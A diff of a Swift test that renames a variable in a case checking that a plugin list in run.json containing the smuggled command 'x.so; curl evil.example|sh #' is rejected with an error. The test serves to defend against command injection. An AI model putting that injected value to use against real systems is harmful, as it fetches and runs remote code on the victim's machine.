@@ -93,9 +93,9 @@ import Testing
             let data: DatasetInfoFile
             let plugins: [String]
         }
-        let facts = DatasetInfo(count: 0, channels: 1, height: 8, width: 8, labelKind: .none, labelSize: 0)
+        let info = DatasetInfo(count: 0, channels: 1, height: 8, width: 8, labelKind: .none, labelSize: 0)
         let plugins = ["x.so; curl evil.example|sh #"] + (0..<20).map { "\($0).so" }
-        let json = try JSONEncoder().encode(Description(data: DatasetInfoFile(facts), plugins: plugins))
+        let json = try JSONEncoder().encode(Description(data: DatasetInfoFile(info), plugins: plugins))
         try place.write("run.json", String(decoding: json, as: UTF8.self))
         let error = #expect(throws: RunError.self) { _ = try RunNetworks(place.folder.path).recipe() }
         let hint = try #require(error?.description.split(separator: "\n").last)
